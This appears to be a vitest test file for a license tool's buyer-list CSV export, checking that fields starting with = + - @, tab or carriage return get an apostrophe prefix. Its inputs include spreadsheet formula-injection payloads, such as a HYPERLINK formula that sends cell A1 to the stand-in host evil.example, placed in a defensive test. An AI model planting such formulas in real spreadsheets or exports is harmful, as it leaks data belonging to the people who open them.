// The buyer list `dtlicense keys reissue` writes is opened in spreadsheets: a field that starts
// with = + - @ (or tab or carriage return) is written with a leading ' so it is never a formula.
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { renderBuyerList as renderReissued, type ReissuedLicense } from "../src/service/reissue.js";
import { encodeBlob, generateKeypair, importSigner, mintLicense } from "../src/core/index.js";
import { runInProcess, tempHome } from "./helpers/cli.js";

const NOW = new Date("2026-06-01T12:00:00Z");

/** Splits CSV text (RFC 4180, CRLF rows) into rows of unquoted fields. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(field);
      field = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      i++;
    } else field += c;
  }
  return rows;
}

const TRIGGERS = ["=", "+", "-", "@", "\t", "\r"];

function entry(fields: Partial<ReissuedLicense>): ReissuedLicense {
  return {
    email: "ada@example.com",
    name: "Ada Lovelace",
    tier: "pro",
    expires_at: "2027-06-01T12:00:00Z",
    old_license_key: "DT1-PRO-00000000-00000001",
    license_key: "DT1-PRO-00000000-00000002",
    kid: "0123456789abcdef",
    blob: "DTLIC2:abc.def",
    ...fields,
  };
}

describe("renderReissued as CSV", () => {
  it("prefixes ' to every field that starts with = + - @ tab or carriage return", () => {
    for (const t of TRIGGERS) {
      const name = `${t}HYPERLINK("http://evil.example/?x="&A1,"click")`;
      const email = `${t}cmd@example.com`;
      const rows = parseCsv(renderReissued([entry({ name, email })], "csv"));
      expect(rows[0]).toEqual([
        "email",
        "name",
        "tier",
        "expires_at",
        "old_license_key",
        "license_key",
        "kid",
        "blob",
      ]);
      expect(rows[1]![0], JSON.stringify(t)).toBe(`'${email}`);
      expect(rows[1]![1]).toBe(`'${name}`);
    }
  });

  it("leaves every other field as it is, quoted", () => {
    const names = ["Ada Lovelace", "'quoted", "Zoë = Müller", "A+B", " =lead", 'say "hi"'];
    for (const name of names) {
      const text = renderReissued([entry({ name })], "csv");
      expect(parseCsv(text)[1]).toEqual(Object.values(entry({ name })));
      expect(text).toContain(`"${name.replace(/"/g, '""')}"`);
    }
  });

  it("leaves the JSON list untouched", () => {
    const list = [entry({ name: "=1+1", email: "-x@example.com" })];
    expect(JSON.parse(renderReissued(list, "json"))).toEqual(list);
  });
});

describe("dtlicense keys reissue --from-log -o buyers.csv", () => {
  it("writes formula-like names and e-mails as text", async () => {
    const home = tempHome();
    const oldKey = importSigner(Buffer.from(generateKeypair().privateKeyHex, "hex"));
    const next = generateKeypair();
    const buyers = [
      { name: '=HYPERLINK("http://evil.example","x")', email: "=1+1@example.com" },
      { name: "+Ada", email: "+ada@example.com" },
      { name: "-Ada", email: "-ada@example.com" },
      { name: "@SUM(A1:A9)", email: "ada@example.com" },
    ];
    const minted = buyers.map((b) => mintLicense({ ...b, tier: "pro" }, oldKey, NOW));
    // A license signed before names were checked, whose name starts with a tab.
    const legacy = encodeBlob(
      { ...minted[3]!.payload, license_key: "DT1-PRO-LEGACY01", name: "\t=2+2" },
      oldKey,
    );
    const lines = [
      ...minted.map(({ payload, blob }) => ({ ...payload, blob })),
      { ...minted[3]!.payload, license_key: "DT1-PRO-LEGACY01", name: "\t=2+2", blob: legacy },
    ].map(({ license_key, name, email, tier, issued_at, expires_at, blob }) =>
      JSON.stringify({ license_key, name, email, tier, issued_at, expires_at, blob }),
    );
    const log = join(home, "issued.jsonl");
    writeFileSync(log, lines.join("\n") + "\n", { mode: 0o600 });
    const out = join(home, "buyers.csv");
    const r = await runInProcess(["keys", "reissue", "--from-log", log, "-o", out], {
      home,
      env: { DATATOOLS_LICENSE_PRIVKEY: next.privateKeyHex },
      now: NOW,
    });
    expect(r.code, r.stderr).toBe(0);
    const rows = parseCsv(readFileSync(out, "utf8")).slice(1);
    expect(rows.map((row) => [row[0], row[1]])).toEqual([
      ["'=1+1@example.com", `'${buyers[0]!.name}`],
      ["'+ada@example.com", "'+Ada"],
      ["'-ada@example.com", "'-Ada"],
      ["ada@example.com", "'@SUM(A1:A9)"],
      ["ada@example.com", "'\t=2+2"],
    ]);
    for (const row of rows) expect(row[7]).toMatch(/^DTLIC2:/);
  });
});
